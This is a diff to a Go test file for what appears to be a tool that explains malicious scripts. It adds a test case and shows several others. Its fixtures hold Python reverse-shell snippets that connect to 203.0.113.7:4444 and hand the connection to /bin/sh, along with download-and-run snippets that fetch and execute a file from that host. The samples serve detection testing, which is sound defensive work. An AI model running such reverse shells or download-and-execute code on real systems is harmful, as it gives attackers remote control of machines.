@@ -32,6 +32,8 @@ func TestReasonsNameValues(t *testing.T) {
 			"The script connects to 203.0.113.7:4444 and gives the connection to `/bin/sh -i`.", "decoded from base64 at line 2"},
 		{"values with names", "import socket,os\nHOST = '203.0.113.7'\nPORT = 4444\ns = socket.socket()\ns.connect((HOST, PORT))\nos.dup2(s.fileno(), 1)\nos.system('/bin/sh')\n",
 			"The script connects to 203.0.113.7:4444 and gives the connection to /bin/sh.", "2"},
+		{"a command before the shell", "import socket,subprocess,os\nos.system('touch /tmp/a')\ns=socket.socket()\ns.connect(('203.0.113.7',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n",
+			"The script connects to 203.0.113.7:4444 and gives the connection to `/bin/sh -i`.", "lines 3-6"},
 		{"a download that is run", "import os, urllib.request\nu = 'http://203.0.113.7/x.sh'\nurllib.request.urlretrieve(u, '/tmp/x.sh')\nos.system('/tmp/x.sh')\n",
 			"The script downloads http://203.0.113.7/x.sh and runs it: /tmp/x.sh.", "4"},
 		{"a download through a file", "import os, requests\nr = requests.get('http://203.0.113.7/x')\nwith open('/tmp/x', 'wb') as f:\n    f.write(r.content)\nos.system('/tmp/x')\n",
